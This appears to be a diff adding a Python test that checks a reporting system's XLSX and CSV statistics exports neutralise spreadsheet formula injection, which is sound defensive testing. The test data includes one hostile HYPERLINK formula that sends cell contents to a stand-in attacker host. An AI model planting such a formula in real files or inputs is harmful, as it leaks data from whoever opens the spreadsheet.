@@ -46,3 +46,37 @@ def test_statistics_by_sentinel_place_and_institution_never_count_a_report_about
     audited = world.as_("auditor").get("/api/v1/stats/summary", **period).json()["tables"]
     assert audited["reports_by_sentinel_place"]["rows"] == [["SEALED-PLACE 星空网吧", "internet_cafe", 1]]
     assert {row[1]: row[2] for row in audited["reports_by_institution"]["rows"]}["internet_cafe"] == 1
+
+
+FORMULA_PLACE = '=HYPERLINK("http://evil.invalid/?"&A1,"哨点")'
+"""A sentinel place as a hostile reporter may type it: text a spreadsheet program would run as a formula."""
+
+
+def test_a_sentinel_place_typed_as_a_formula_stays_text_in_the_statistics_downloads(world: World) -> None:
+    """The statistics downloads name sentinel places as reporters typed them. Opened in a spreadsheet program, a
+    cell that starts with `=` must stay text, as the roster export keeps it (OWASP CSV injection): in the XLSX a
+    string cell, in the CSV the text with a leading apostrophe, which spreadsheet programs read as "text follows"."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    village = "520302/001/004/08"
+    received = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=1)
+    for _ in range(5):
+        _report(world, jurisdiction=village, reporter_institution="internet_cafe", sentinel_place=FORMULA_PLACE,
+                occurred_at=received.isoformat())
+    period = {"jurisdiction": village, "from": (received - timedelta(days=1)).isoformat(),
+              "to": (received + timedelta(hours=2)).isoformat()}
+    supervisor = world.as_("supervisor")
+
+    xlsx = supervisor.get("/api/v1/stats/summary", **period, format="xlsx")
+    assert xlsx.status_code == 200, xlsx.text
+    sheet = load_workbook(io.BytesIO(xlsx.content))["reports_by_sentinel_place"]
+    place = sheet.cell(row=3, column=1)
+    assert (place.value, place.data_type) == (FORMULA_PLACE, "s")
+
+    text = supervisor.get("/api/v1/stats/summary", **period, format="csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert ["'" + FORMULA_PLACE, "internet_cafe", "5"] in rows
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row if cell)
